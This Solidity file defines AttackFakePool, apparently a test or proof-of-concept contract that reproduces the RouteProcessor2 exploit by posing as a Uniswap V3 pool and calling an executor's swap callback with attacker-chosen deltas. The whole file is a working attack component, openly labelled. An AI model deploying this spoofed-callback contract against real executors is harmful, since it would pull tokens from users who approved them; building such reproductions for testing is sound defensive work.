// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @title AttackFakePool
/// @notice The RouteProcessor2 exploit's fake pool: it looks like a Uniswap V3 pool (token0, token1,
///         fee) but the attacker deployed it, and it calls the executor's swap callback claiming to
///         be owed, hoping the executor pays it or pulls from whoever approved the executor.
contract AttackFakePool {
    address public immutable token0;
    address public immutable token1;
    uint24 public immutable fee;

    constructor(address token0_, address token1_, uint24 fee_) {
        token0 = token0_;
        token1 = token1_;
        fee = fee_;
    }

    /// @notice Calls `executor.uniswapV3SwapCallback(amount0Delta, amount1Delta, data)` as this
    ///         "pool"; the executor's revert is passed on unchanged.
    function spoof(address executor, int256 amount0Delta, int256 amount1Delta, bytes calldata data) external {
        (bool ok, bytes memory answer) = executor.call(
            abi.encodeWithSignature("uniswapV3SwapCallback(int256,int256,bytes)", amount0Delta, amount1Delta, data)
        );
        if (!ok) {
            assembly ("memory-safe") {
                revert(add(answer, 0x20), mload(answer))
            }
        }
    }
}
